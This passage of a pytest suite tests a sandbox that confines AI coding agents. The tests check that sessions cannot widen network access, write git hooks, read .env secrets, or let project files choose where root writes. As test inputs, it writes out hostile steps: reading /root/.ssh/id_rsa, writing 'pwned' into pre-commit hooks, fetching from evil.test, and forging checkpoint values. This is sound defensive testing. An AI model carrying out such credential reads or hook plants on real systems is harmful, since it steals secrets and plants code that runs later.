        fetch = ("import urllib.request\nfor host in ('good.test', 'evil.test'):\n    try:\n"
                 "        print(urllib.request.urlopen(f'http://{host}/', timeout=10).read().decode().strip())\n"
                 "    except OSError as e:\n        print('refused', host, e)\n")
        s = session(env, ["start", "--rw", "src", "--allow-domain", "good.test", "--resolver", DNS4,
                          "--allow-range", "198.18.0.0/15", "--allow-range", "fd00:ac::/32", "--json", "--",
                          "python3", "-u", "-c", fetch])  # (-u: it is killed at evil.test, before any flush)
        assert s.out.split("\n")[0] == f"hello from {GOOD4} port 80", (s.out, s.err)  # --net proxy, implied
        assert s.rc == 120 and s.summary["escape_target"] == "evil.test:80", (s.summary, s.err)
        [plan] = [r for r in records(env, s.summary["session"]) if r["event"] == "session.plan"]
        assert (plan["details"]["network"], plan["details"]["allow_domains"]) == ("proxy", ["good.test"])
    finally:
        fake.close()
        assert leftovers(fake) == []


@pytest.mark.parametrize(("args", "field"), [
    (["--net", "none", "--allow-domain", "good.test"], "--net"),
    (["--allow-domain", "bad domain"], "--allow-domain"),
    (["--allow-preset", "nosuch"], "--allow-preset"),
    (["--firewall", "--allow-domain", "good.test"], "--net"),
])
def test_bad_egress_flags_are_refused_before_a_session_exists(env: Env, args: list[str], field: str) -> None:
    s = session(env, ["start", "--rw", "src", *args, "--", "true"])
    assert s.rc == 125 and s.err.count("\n") == 1 and field in s.err, s.err
    assert session(env, ["list", "--json"]).summary == [], "a refused start left a session behind"


def test_a_projects_toml_cannot_widen_egress(env: Env) -> None:
    (env.project / "agentcell.toml").write_text('[session]\nallow_domains = ["evil.test"]\n')
    s = session(env, ["start", "--rw", "src", "--", "true"])
    assert s.rc == 125 and "session.allow_domains" in s.err and "unknown key" in s.err, s.err


def test_a_cell_host_that_dies_is_lost_telemetry_and_terminates_the_session(env: Env) -> None:
    sup = running(env)
    try:
        children = subprocess.run(["ps", "-o", "pid=", "--ppid", str(sup.pid)], capture_output=True,
                                  text=True).stdout.split()
        [host] = [int(p) for p in children if b"agentcell.host.server" in _cmdline(int(p))]
        os.kill(host, 9)  # started by the session we started: the cell's host dies under it
        out, _ = sup.communicate(timeout=60)
    finally:
        if sup.poll() is None:
            sup.kill()
            sup.wait()
    summary = json.loads(out.strip().splitlines()[-1])
    assert sup.returncode == 120 and summary["status"] == "terminated", summary
    assert summary["escape"]["operation"] == "telemetry" and "after 3 reconnects" in summary["reason"], summary
    assert account_gone(summary["os_user"]) and summary["problems"] == [] and cell_cgroups(summary["cell_id"]) == []


@pytest.fixture(scope="module")
def codex() -> str:
    """The real Codex CLI from the npm registry, under /opt (which cells see read-only; tests/harnesses.py)."""
    from harnesses import Unavailable, bin_dir

    try:
        return str(bin_dir("codex") / "codex")
    except Unavailable as e:
        pytest.skip(str(e))


def test_a_real_harness_cli_runs_in_a_session_as_its_account_with_the_cells_home(env: Env, codex: str) -> None:
    s = session(env, ["start", "--rw", "src", "--json", "--", "sh", "-c",
                      f'id -un; echo "HOME=$HOME"; {codex} --version; {codex} exec --help | head -1'])
    assert s.rc == 0 and s.summary["status"] == "completed", (s.out, s.err)
    name = s.summary["os_user"]
    assert s.out.splitlines()[:2] == [name, f"HOME=/home/{name}"], s.out
    assert s.out.splitlines()[2].startswith("codex-cli ") and "Run Codex non-interactively" in s.out, s.out


# ---- red team (helper 19): a project's files never decide where root writes, nor what is shared ----

@pytest.mark.parametrize("key,value", [("audit_log_path", "/etc/profile.d/agentcell-x.sh"),
                                       ("backup_dir", "/etc/agentcell-x"), ("agent", "someone")])
def test_a_project_file_cannot_choose_where_root_writes_or_which_agent_runs(env: Env, key: str, value: str) -> None:
    (env.project / "agentcell.toml").write_text(f'[session]\nharness = "scripted"\n{key} = "{value}"\n')
    s = scripted(env, "say hi\n")
    assert s.rc == 125 and f"session.{key}" in s.err and "not taken from a file in the project" in s.err, s.err
    assert len(s.err.strip().splitlines()) == 1
    assert not Path(value).exists()


def test_a_dotenv_in_the_project_never_chooses_host_paths_one_only_root_can_write_elsewhere_does(
        env: Env, user: User) -> None:
    dotenv = env.project / ".env"
    dotenv.write_text(f"BACKUP_DIR={env.state}/elsewhere\n")
    environ = {k: v for k, v in session_environ(env).items() if k != "BACKUP_DIR"}

    def start(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([AGENTCELL, "session", "start", "--harness", "shell", *args, "--json", "--", "true"],
                              capture_output=True, text=True, env=environ, cwd=env.project, timeout=120)

    # The project owner's, and root's too: an agent's file handed back, or a root-owned file in the
    # project the agent could write through its grant and rename to .env (helper 21, findings 1-2).
    for owner in (user.uid, 0):
        os.chown(dotenv, owner, owner)
        dotenv.chmod(0o600)
        p = start()
        assert p.returncode == 125 and "BACKUP_DIR (in" in p.stderr and "not taken from a file" in p.stderr, p.stderr
    assert not (env.state / "elsewhere").exists()
    # Root's own, outside the project, in directories only root can change: it decides, as the seed's does.
    own = env.state / "host.env"
    own.write_text(f"BACKUP_DIR={env.state}/elsewhere\n")
    own.chmod(0o600)
    twin = env.state / "twin"
    os.link(own, twin)  # a second name: it may have been written through that one
    p = start("--env-file", str(own))
    assert p.returncode == 125 and "not taken from a file" in p.stderr, p.stderr
    twin.unlink()
    # Read implicitly (./.env where the session starts) it never decides, even outside the project:
    # ownership is not authorship (helper 22, finding 1), and only a file you name on purpose is yours.
    implicit = env.state / ".env"
    own.rename(implicit)
    p = subprocess.run([AGENTCELL, "session", "start", "--harness", "shell", "--project", str(env.project), "--json",
                        "--", "true"], capture_output=True, text=True, env=environ, cwd=env.state, timeout=120)
    assert p.returncode == 125 and "not taken from a file" in p.stderr and "--env-file" in p.stderr, p.stderr
    # Named, but reached through a link: what is checked might not be what is read.
    (env.state / "via").symlink_to(env.state)
    p = start("--env-file", str(env.state / "via" / ".env"))
    assert p.returncode == 125 and "not taken from a file" in p.stderr, p.stderr
    assert not (env.state / "elsewhere").exists()
    p = start("--env-file", str(implicit))
    assert p.returncode == 0, p.stderr
    assert (env.state / "elsewhere").is_dir()


def test_the_agents_files_never_become_roots(env: Env) -> None:
    os.chown(env.project, 0, 0)  # root's project, and no one behind sudo
    s = session(env, ["start", "--harness", "shell", "--rw", "src", "--json", "--", "true"])
    assert s.rc == 125 and "root's" in s.err and "sudo" in s.err and len(s.err.strip().splitlines()) == 1, s.err
    s = session(env, ["start", "--harness", "shell", "--rw", "src", "--json", "--", "true"],
                extra={"SUDO_UID": "4242", "SUDO_GID": "4242"})
    assert s.rc == 0, s.err


def test_what_the_agent_made_is_given_back_whole_in_the_revokes_walk(env: Env, user: User) -> None:
    """Cleanup gives the per-session account's files to the human in the walk that revokes its grant (its
    processes gone first): nested directories, a symlink, a setuid file, one others may write and one with
    an ACL entry of the agent's choosing all end the human's, plain, and nothing is left the account's."""
    script = ("cd src && mkdir -p a/b && echo x > a/b/deep.py && ln -s deep.py a/b/link && echo s > a/suid "
              "&& chmod 2755 a/suid && echo w > a/open && chmod 666 a/open && echo n > a/named "
              "&& setfacl -m u:65534:rw a/named && echo done")
    s = session(env, ["start", "--harness", "shell", "--rw", "src", "--json", "--", "sh", "-c",
                      f"cd {env.project} && {script}"])
    assert s.rc == 0 and s.out.splitlines()[-1] == "done", (s.out, s.err)
    assert s.summary["problems"] == [] and account_gone(s.summary["os_user"]), s.summary
    made = [env.project / "src" / p for p in ("a", "a/b", "a/b/deep.py", "a/b/link", "a/suid", "a/open", "a/named")]
    for p in made:
        st = p.lstat()
        assert (st.st_uid, st.st_gid) == (user.uid, user.gid), (p, st.st_uid, st.st_gid)
        assert not st.st_mode & (stat.S_ISUID | stat.S_ISGID) and (p.is_symlink() or not st.st_mode & stat.S_IWOTH)
    assert "65534" not in acl_names(env.project / "src" / "a") and s.summary["os_user"] not in acl_names(env.project)


@pytest.mark.parametrize("toml", ['network = "host-firewall"', 'firewall_enabled = true', 'network = "loopback"'])
def test_a_project_file_cannot_widen_the_harness_network(env: Env, toml: str) -> None:
    (env.project / "agentcell.toml").write_text(f'[session]\nharness = "shell"\n{toml}\n')
    s = session(env, ["start", "--rw", "src", "--json", "--", "true"])
    assert s.rc == 125 and "may not widen the network beyond the harness's none" in s.err, s.err
    s = session(env, ["start", "--rw", "src", "--net", toml.split('"')[1] if '"' in toml else "host-firewall",
                      "--json", "--", "true"])
    assert s.rc == 0, s.err  # the operator's flag may


def test_a_harness_a_project_file_picks_may_not_bring_the_network_nor_keys(env: Env) -> None:
    from agentcell.errors import PolicyError
    from agentcell.session.config import load

    (env.project / "agentcell.toml").write_text('[session]\nharness = "claude_code"\nnetwork = "none"\n')
    (env.project / ".env").write_text("ANTHROPIC_API_KEY=sk-yours\n")  # the seed's place for keys
    for flags in ({}, {"network": "none"}, {"allow_domains": ["pypi.org"]}, {"network": "proxy"}):
        with pytest.raises(PolicyError, match="a harness chosen by a file in the project may not bring the network "
                                              "or your API keys"):
            load(flags, environ={}, cwd=str(env.project))
    cfg = load({"harness": "claude_code"}, environ={}, cwd=str(env.project))
    assert (cfg.harness, cfg.network, sorted(cfg.secrets)) == ("claude_code", "none", ["ANTHROPIC_API_KEY"])
    assert load({}, environ={"AGENT_HARNESS": "claude_code"}, cwd=str(env.project)).harness == "claude_code"
    (env.project / "agentcell.toml").write_text('[session]\nharness = "scripted"\n')  # no network, no keys
    assert load({}, environ={}, cwd=str(env.project)).harness == "scripted"


def test_a_project_file_may_narrow_the_harness_network(env: Env) -> None:
    from agentcell.session.config import load

    (env.project / "agentcell.toml").write_text('[session]\nnetwork = "none"\n')
    assert load({"harness": "claude_code"}, environ={}, cwd=str(env.project)).network == "none"


@pytest.mark.parametrize("declared", [".git/hooks", ".claude", ".husky/_", ".githooks", "remote.git/hooks"])
def test_a_project_file_cannot_declare_what_decides_what_runs(env: Env, declared: str) -> None:
    git = env.project / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    (git / "config").write_text("[core]\n\thooksPath = .githooks\n")  # husky and the like
    (env.project / ".githooks").mkdir()
    bare = env.project / "remote.git"  # a bare repository: git runs its hooks on a push
    for d in ("hooks", "objects", "refs"):
        (bare / d).mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    toml = f'[session]\nharness = "shell"\ndeclared_paths = ["src", "{declared}"]\n'
    (env.project / "agentcell.toml").write_text(toml)
    s = session(env, ["start", "--json", "--", "true"])
    assert s.rc == 125 and "which decides what git, your shell or your agent runs" in s.err, s.err


def _repo(at: Path, hooks_path: str | None = None, worktree: str | None = None) -> Path:
    """A git directory written by hand (git is not needed): HEAD, hooks/, a config."""
    (at / "hooks").mkdir(parents=True)
    (at / "objects").mkdir()
    (at / "HEAD").write_text("ref: refs/heads/main\n")
    core = "".join(f"\t{k} = {v}\n" for k, v in (("hooksPath", hooks_path), ("worktree", worktree)) if v)
    (at / "config").write_text(f"[core]\n{core}")
    return at


def test_hooks_a_repository_above_a_declared_path_points_into_it_stay_read_only(env: Env, user: User) -> None:
    _repo(env.project / ".git", hooks_path=".github/hooks")  # husky-style, in the work tree
    hooks = env.project / ".github" / "hooks"
    hooks.mkdir(parents=True)
    for d in (env.project / ".github", hooks):
        shutil.chown(d, user.uid, user.gid)
    (env.project / "agentcell.toml").write_text('[session]\nharness = "scripted"\ndeclared_paths = [".github"]\n')
    steps = f"write {hooks}/pre-commit pwned\nwrite {env.project}/.github/workflow.yml ok\n"
    for args in ((), ("--rw", ".github")):  # from the project's file, or given by the operator
        s = scripted(env, steps, *args)
        assert s.rc == 0 and s.out.count("DENIED: write") == 1 and "pre-commit" in s.out.split("\n")[0], s.out
        assert not (hooks / "pre-commit").exists()


def test_a_submodules_own_hooks_path_stays_read_only(env: Env, user: User) -> None:
    git = _repo(env.project / ".git")
    sub = env.project / "sub"
    (sub / ".githooks").mkdir(parents=True)
    _repo(git / "modules" / "sub", hooks_path=".githooks", worktree="../../../sub")
    (sub / ".git").write_text("gitdir: ../.git/modules/sub\n")
    for d in (sub, sub / ".githooks"):
        shutil.chown(d, user.uid, user.gid)
    s = scripted(env, f"write {sub}/.githooks/pre-commit pwned\n", "--rw", ".")
    assert s.rc == 0 and "DENIED: write" in s.out, s.out
    assert not (sub / ".githooks" / "pre-commit").exists()


def _linked_worktree(project: Path, outside: Path) -> str:
    """The project is a linked worktree (git worktree add) of a repository outside it."""
    main = _repo(outside / ".git", hooks_path=".github/hooks")
    wt = main / "worktrees" / "proj"
    wt.mkdir(parents=True)
    (wt / "HEAD").write_text("ref: refs/heads/wt\n")
    (wt / "commondir").write_text("../..\n")
    (wt / "gitdir").write_text(f"{project}/.git\n")
    (project / ".git").write_text(f"gitdir: {wt}\n")
    return ".github/hooks/pre-commit"


def _included_hooks_path(project: Path, outside: Path) -> str:
    _repo(project / ".git")
    (project / ".git" / "config").write_text("[include]\n\tpath = ../.gitconfig\n")
    (project / ".gitconfig").write_text("[core]\n\thooksPath = .githooks\n")  # committed with the project
    return ".githooks/pre-commit"


def _worktree_config(project: Path, outside: Path) -> str:
    _repo(project / ".git")
    (project / ".git" / "config.worktree").write_text("[core]\n")  # sparse-checkout's
    return ".git/config.worktree"


def _hooks_path_through_a_link(project: Path, outside: Path) -> str:
    (outside / "link").symlink_to(project)
    _repo(project / ".git", hooks_path=f"{outside}/link/.githooks")
    return ".githooks/pre-commit"


def _superproject_points_into_a_submodule(project: Path, outside: Path) -> str:
    _repo(project / ".git", hooks_path="shared/ci/hooks")
    _repo(project / ".git" / "modules" / "shared", worktree="../../../shared")
    (project / "shared").mkdir()
    (project / "shared" / ".git").write_text("gitdir: ../.git/modules/shared\n")
    return "shared/ci/hooks/pre-commit"


@pytest.mark.parametrize("layout", [_linked_worktree, _included_hooks_path, _worktree_config,
                                    _hooks_path_through_a_link, _superproject_points_into_a_submodule])
def test_what_git_runs_stays_read_only_however_the_config_reaches_it(
        env: Env, user: User, layout: Any, tmp_path: Path) -> None:
    target = env.project / layout(env.project, tmp_path)  # red team, round 5 (helper 24)
    target.parent.mkdir(parents=True, exist_ok=True)
    if not target.exists():
        parts = target.relative_to(env.project).parts
        for i in range(1, len(parts)):
            shutil.chown(env.project.joinpath(*parts[:i]), user.uid, user.gid)
    declared = ["--rw", "shared/ci"] if "shared" in str(target) else ["--rw", "."]
    s = scripted(env, f"append {target} pwned\n", *declared)
    assert s.rc == 0 and "DENIED: append" in s.out, (s.out, s.err)
    assert "pwned" not in (target.read_text() if target.exists() else "")


@pytest.mark.parametrize("make", ["mkdir {t}", "ln -s {outside} {t}"])
def test_a_hooks_path_directory_the_agent_creates_is_reported(env: Env, user: User, make: str,
                                                               tmp_path: Path) -> None:
    _repo(env.project / ".git", hooks_path="tools/git-hooks")  # configured, not there yet
    (env.project / "tools").mkdir()
    shutil.chown(env.project / "tools", user.uid, user.gid)
    target = env.project / "tools" / "git-hooks"
    s = scripted(env, "run " + make.format(t=target, outside=tmp_path) + "\n", "--rw", ".")
    assert s.rc == 0 and "DENIED" not in s.out, (s.out, s.err)
    # Not moved (a config the agent could have written might name your own directory): reported.
    assert [w for w in s.summary["warnings"] if f"the agent created {target}" in w and "review it" in w], s.summary


def test_the_config_reader_never_reads_pseudo_files_nor_fails_the_teardown(tmp_path: Path) -> None:
    from agentcell.protect import surface

    repo = _repo(tmp_path / "sub" / ".git")
    (repo / "config").write_text("[include]\n" + "\tpath = /proc/self/status\n" * 6 + "\tpath = ../big\n" * 19)
    (tmp_path / "sub" / "big").write_text("[core]\n" + "# filler\n" * 100_000)
    assert surface._read_small("/proc/self", "status", 4096) == ""  # size 0: /proc/kmsg would be consumed
    assert surface._config_targets(str(repo), str(tmp_path / "sub")).count(str(tmp_path / "sub" / "big")) == 19
    after, _ = surface.surface((str(tmp_path),))
    assert str(repo / "config") in after


def test_a_virtualenv_named_dotenv_is_neither_configuration_nor_hidden(env: Env) -> None:
    venv = env.project / "src" / ".env"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (venv / ".env").write_text("SECRET=inside\n")  # an env file inside it still is one
    s = scripted(env, f"read {venv}/pyvenv.cfg\nread {venv}/.env\n", "--rw", "src")
    assert s.rc == 0 and s.out.count("ALLOWED: read") == 1 and s.out.count("DENIED: read") == 1, (s.out, s.err)
    (env.project / ".env").mkdir()  # python -m venv .env at the top: not a .env file to read
    s = scripted(env, "say hi\n", "--rw", "src")
    assert s.rc == 0, s.err


def test_project_file_paths_are_refused_when_the_protected_scan_is_cut_short(env: Env) -> None:
    for i in range(5002):  # past the scan's 5,000 directories: a bare repository could hide behind them
        (env.project / "docs" / f"d{i}").mkdir()
    (env.project / "agentcell.toml").write_text('[session]\nharness = "scripted"\ndeclared_paths = ["src"]\n')
    s = scripted(env, "say hi\n")
    assert s.rc == 125 and "too large to check" in s.err, s.err


def test_an_env_file_where_an_earlier_agent_worked_never_decides(env: Env, user: User) -> None:
    earlier = Path("/tmp") / ("agentcell-test-earlier-" + secrets.token_hex(4))
    (earlier / "conf").mkdir(parents=True)  # root's, and an earlier session's project
    try:
        s = session(env, ["start", "--harness", "shell", "--project", str(earlier), "--json", "--", "true"],
                    extra={"SUDO_UID": str(user.uid), "SUDO_GID": str(user.gid)})
        assert s.rc == 0, s.err
        ops = earlier / "conf" / "ops.env"  # root-only now, as a file the agent rewrote looks once revoked
        ops.write_text(f"BACKUP_DIR={env.state}/agent-chose\n")
        os.chown(ops, 0, 0)
        ops.chmod(0o600)
        environ = {k: v for k, v in session_environ(env).items() if k != "BACKUP_DIR"}
        p = subprocess.run([AGENTCELL, "session", "start", "--harness", "shell", "--env-file", str(ops), "--json",
                            "--", "true"], capture_output=True, text=True, env=environ, cwd=env.project, timeout=120)
        assert p.returncode == 125 and f"lies in {earlier}, where the agent of session" in p.stderr, p.stderr
        renamed = earlier.with_name(earlier.name + "-renamed")  # the same directory: known by its inode
        earlier.rename(renamed)
        p = subprocess.run([AGENTCELL, "session", "start", "--harness", "shell", "--env-file",
                            str(renamed / "conf" / "ops.env"), "--json", "--", "true"],
                           capture_output=True, text=True, env=environ, cwd=env.project, timeout=120)
        assert p.returncode == 125 and f"lies in {renamed}, where the agent of session" in p.stderr, p.stderr
        assert not (env.state / "agent-chose").exists()
    finally:
        shutil.rmtree(earlier, ignore_errors=True)
        shutil.rmtree(earlier.with_name(earlier.name + "-renamed"), ignore_errors=True)


def test_a_fifo_or_link_as_agentcell_toml_is_refused_not_followed(env: Env) -> None:
    from agentcell.errors import PolicyError
    from agentcell.session.config import read_toml

    toml = env.project / "agentcell.toml"
    os.mkfifo(toml)  # reading it would block root's start for ever
    with pytest.raises(PolicyError, match="not a regular file"):
        read_toml(str(env.project))
    toml.unlink()
    secret = env.state / "root-only.toml"
    secret.write_text('[session]\nharness = "shell"\n')
    toml.symlink_to(secret)
    with pytest.raises(PolicyError, match="cannot read it"):
        read_toml(str(env.project))


def test_declared_paths_from_a_project_file_stay_inside_the_project(env: Env) -> None:
    (env.project / "agentcell.toml").write_text('[session]\nharness = "scripted"\ndeclared_paths = ["src", "../"]\n')
    s = scripted(env, "say hi\n")
    assert s.rc == 125 and "outside the project" in s.err and len(s.err.strip().splitlines()) == 1, s.err


@pytest.mark.parametrize("path", ["/var/lib/dpkg", "/var/log", "/run/user"])
def test_service_state_is_never_shared_writable(env: Env, path: str) -> None:
    s = session(env, ["start", "--harness", "shell", "--rw", path, "--json", "--", "true"])
    assert s.rc == 125 and "state" in s.err and len(s.err.strip().splitlines()) == 1, s.err


def test_every_dotenv_in_the_declared_paths_is_hidden(env: Env, user: User) -> None:
    nested = env.project / "src" / "backend"
    nested.mkdir()
    deep = nested.joinpath(*"abcdefg")
    deep.mkdir(parents=True)
    (nested / "config").mkdir()
    names = [nested / n for n in (".env", ".env.local", ".envrc", "prod.env", ".env-prod", ".env_test", ".env~",
                                  "..env.swp", "#.env#", ".ENV", "prod.env.local", "x.env.bak", ".flaskenv",
                                  ".dev.vars", ".env 2", ".env(1)", ".env.swp", "secrets.toml")]
    names += [deep / ".env", nested / "config" / "secrets.env", nested / "node_modules" / "pkg" / ".env",
              nested / ".env.d" / "prod", nested / ".envs" / ".production" / ".django"]
    for d in ("node_modules/pkg", ".env.d", ".envs/.production"):
        (nested / d).mkdir(parents=True)
    for f in names:
        f.write_text("SECRET=sk-nested\n")
    (nested / "config" / "real-secrets").write_text("SECRET=sk-linked\n")
    (nested / "config" / ".env.link").symlink_to("real-secrets")  # the file a .env link names
    for f in [nested, *nested.rglob("*")]:
        os.chown(f, user.uid, user.gid, follow_symlinks=False)
    steps = "".join(f"read {shlex.quote(str(f))}\n" for f in [*names, nested / "config" / "real-secrets"])
    s = scripted(env, steps, "--rw", "src")
    assert s.rc == 0 and s.out.count("DENIED: read") == len(names) + 1, (s.out, s.err)


def test_the_env_file_search_is_bounded_by_directories_and_a_cut_short_search_refuses_the_session(
        env: Env) -> None:
    from agentcell.session.envfiles import MAX_ENV_DIRS
    from agentcell.session.envfiles import dotenv_files as _dotenv_files

    flood = env.project / "src" / "flood"
    flood.mkdir()
    for i in range(5000):  # files do not count: a flood of them does not cut the search short
        (flood / f"f{i}").touch()
    (env.project / "src" / "deeper").mkdir()
    (env.project / "src" / "deeper" / ".env").write_text("K=v\n")
    found, stopped = _dotenv_files([str(env.project / "src")], max_dirs=10)
    assert stopped is None and found == [str(env.project / "src" / "deeper" / ".env")]
    for i in range(MAX_ENV_DIRS):  # directories do (an earlier agent could make them): then no session
        (flood / f"d{i}").mkdir()
    s = session(env, ["start", "--harness", "shell", "--rw", "src", "--json", "--", "true"])
    assert s.rc == 125 and "stopped after 50,000 directories, at " in s.err and "narrower" in s.err, s.err


def test_depth_alone_never_cuts_the_env_search_short(tmp_path: Path) -> None:
    from agentcell.session.envfiles import dotenv_files as _dotenv_files

    deep = tmp_path.joinpath(*["a"] * 60)  # an agent's mkdir -p: no longer a way to refuse every later session
    deep.mkdir(parents=True)
    (deep / ".env").write_text("K=v\n")
    assert _dotenv_files([str(tmp_path)]) == ([str(deep / ".env")], None)


def test_recover_acts_only_on_what_agentcell_made_for_that_session(env: Env, user: User) -> None:
    """A checkpoint naming someone else's account, table or cgroup is refused, and nothing is done."""
    from agentcell.accounts import ephemeral
    from agentcell.errors import AgentcellError
    from agentcell.session.state import check_recorded

    sid, other = "20261130-000000-abcdef", "20261130-000001-fedcba"
    good = {"session_id": sid, "cell_id": f"agentcell-{sid}", "firewall_table": "agentcell_20261130000000abcdef",
            "account": {"kind": "ephemeral", "name": ephemeral.name_for(sid), "uid": ephemeral.UID_FIRST + 7,
                        "gid": ephemeral.UID_FIRST + 7}}
    check_recorded(good, sid)  # type: ignore[arg-type]
    # (another session's names, in this one's checkpoint: root would end that live session's cell, account)
    for forged in ({"account": {"kind": "ephemeral", "name": user.name, "uid": user.uid}},
                   {"cell_id": "../ac-victim"}, {"firewall_table": "../../../tmp/x"},
                   {"account": {"kind": "agent", "name": "nobody-registered", "uid": 0}},
                   {"session_id": other, "account": {"kind": "ephemeral", "name": ephemeral.name_for(other),
                                                     "uid": ephemeral.UID_FIRST + 8, "gid": ephemeral.UID_FIRST + 8}},
                   {"cell_id": f"agentcell-{other}"}, {"firewall_table": "agentcell_20261130000001fedcba"},
                   {"account": {**good["account"], "gid": user.gid}},  # type: ignore[dict-item]
                   {"account": "ac-victim"}, {"human": ["0", 0]}, {"cache_dir": "/home"}):
        with pytest.raises(AgentcellError, match="not one agentcell makes"):
            check_recorded({**good, **forged}, sid)  # type: ignore[arg-type]
    with pytest.raises(AgentcellError, match="is not the per-session account"):
        ephemeral.delete(ephemeral.Account(user.name, user.uid, user.gid, sid))
    assert subprocess.run(["id", user.name], capture_output=True).returncode == 0  # untouched


def test_the_checkpoint_holds_the_typed_state_as_plain_data_and_reads_an_older_ones_mappings(tmp_path: Path) -> None:
    """Configuration, plan, policy, launch, escape and result go into the checkpoint as tagged plain data
    (no class to import, no secret value) and come back as what they were; an older checkpoint's mappings
    are read as the same records; ``plain`` gives the mappings ``session show`` always printed."""
    import dataclasses

    from agentcell.policy.models import SandboxPolicy
    from agentcell.session import config, planning, records, state

    os.chown(tmp_path, 65534, 65534)  # (a project of root's wants a sudo user: not this test's subject)
    cfg = config.load({"harness": "shell", "network": "none"}, environ={"LANG": "C"}, cwd=str(tmp_path))
    cfg = dataclasses.replace(cfg, secrets={"ANTHROPIC_API_KEY": "sk-not-in-the-checkpoint"})
    plan, _marks = planning.make_plan(cfg.as_dict(), "20261130-000000-abcdef")
    policy = planning.compile_policy(plan, {"LANG": "C"}, cfg.project_root)
    result = {"exit_status": 0, "signal": None, "duration_s": 1.5, "cell_id": "agentcell-x", "timed_out": False,
              "error": None, "limits_hit": None, "cpu_s": 0.1, "events": [{"operation": "read"}],
              "monitor_sources": ["exec"]}
    lost = {"exit_status": None, "signal": None, "error": "the cell's host ended unexpectedly", "events": []}
    launch = {"env": {"A": "b"}, "path": None, "interactive": False, "api_host": None,
              "files": [{"path": "p", "content": "c", "home": True, "env": None}]}
    escape = {"session_id": "s", "operation": "read", "target": "/etc/shadow", "reason": "r", "pid": 5,
              "exe": "/bin/cat", "source": "canary", "ts": 1.0, "ancestry": [[1, "/bin/sh", "sh"]]}
    old = {"config": cfg.as_dict(), "plan": plan.model_dump(), "policy": policy, "result": result, "lost": lost,
           "launch": launch, "escape": escape}
    kinds = {"config": config.SessionConfig, "plan": type(plan), "policy": SandboxPolicy, "result": records.Result,
             "lost": records.Result, "launch": records.Launch, "escape": records.Escape}
    typed = {k: records.record(kinds[k], v) for k, v in old.items()}
    serde = state.Serde()
    kind, data = serde.dumps_typed(typed)
    assert b"sk-not-in-the-checkpoint" not in data
    assert b"agentcell.policy" not in data and b"agentcell.session" not in data  # (no class to import)
    back = serde.loads_typed((kind, data))
    for k, v in old.items():
        assert type(back[k]) is kinds[k] and type(records.of(kinds[k], v)) is kinds[k], k
        assert json.loads(json.dumps(records.plain(back[k]))) == json.loads(json.dumps(v)), k
    assert state.config_of(back).secrets == {"ANTHROPIC_API_KEY": records.SECRET_PLACEHOLDER}
    assert records.plain(back["result"].without_events()) == {k: v for k, v in result.items() if k != "events"}


def test_session_show_names_who_tried_from_the_cells_pid_1_down(env: Env) -> None:
    """A credential in /root, read by cat under a shell: the session ends there, and ``session show``
    prints the event with its chain of processes."""
    s = session(env, ["start", "--rw", "src", "--json", "--", "sh", "-c", "cat /root/.ssh/id_rsa; exit 0"])
    assert s.rc == 120 and s.summary["escape_target"] == "/root/.ssh/id_rsa", (s.summary, s.err)
    esc = s.summary["escape"]
    assert os.path.basename(esc["exe"]) == "cat" and esc["source"] == "calls", esc
    shown = subprocess.run([AGENTCELL, "session", "show", s.summary["session"]], capture_output=True, text=True,
                           env=session_environ(env), timeout=60)
    line = next(ln for ln in shown.stdout.splitlines() if ln.startswith("escape: read /root/.ssh/id_rsa by cat"))
    chain = shown.stdout.splitlines()[shown.stdout.splitlines().index(line) + 1]
    # (sh is dash, named so while it lives: by the name it was run by once it is gone)
    assert chain.startswith(("  by: PID 1 → dash (pid ", "  by: PID 1 → sh (pid ")), chain
    assert chain.endswith(f"→ cat (pid {esc['pid']})"), chain


def test_a_session_secret_from_a_command_run_as_the_person_reaches_the_cell_as_a_placeholder(env: Env,
                                                                                            user: User) -> None:
    value = "tok-" + secrets.token_hex(16)
    script = 'echo "K=$K"; cat /proc/self/environ | tr "\\0" "\\n" | grep -c "^K="'
    base = ["start", "--harness", "shell", "--rw", "src", "--net", "proxy", "--allow-domain", "api.example.test",
            "--json"]
    s = session(env, [*base, "--secret", f"K=cmd:printf '{value[:4]}%s' \"$(id -u)\"; printf '{value[4:]}'",
                      "--secret-host", "K=api.example.test", "--", "sh", "-c", script],
                extra={"SUDO_UID": str(user.uid), "SUDO_GID": str(user.gid)})
    assert s.rc == 0, s.err
    real = f"{value[:4]}{user.uid}{value[4:]}"  # (the command ran as the person, not as root)
    placeholder = s.out.splitlines()[0].removeprefix("K=")
    assert len(placeholder) == len(real) and placeholder != real and placeholder[:4] == "tok-", s.out
    assert s.out.splitlines()[1] == "1" and real not in s.out + s.err + json.dumps(s.summary)
    written = [f for f in env.state.rglob("*") if f.is_file() and real.encode() in f.read_bytes()]
    assert written == []
    for args, want in ((["--secret", "K=env:NOPE", "--secret-host", "K=api.example.test"], "NOPE is not set"),
                       (["--secret", "K=env:PATH", "--secret-host", "K=elsewhere.test"],
                        "--secret-host: elsewhere.test is not on the allow-list"),
                       (["--secret-host", "K=api.example.test"], "--secret-host: says where a --secret goes")):
        s = session(env, [*base, *args, "--", "true"])
        assert s.rc == 125 and want in s.err and len(s.err.strip().splitlines()) == 1, (args, s.err)
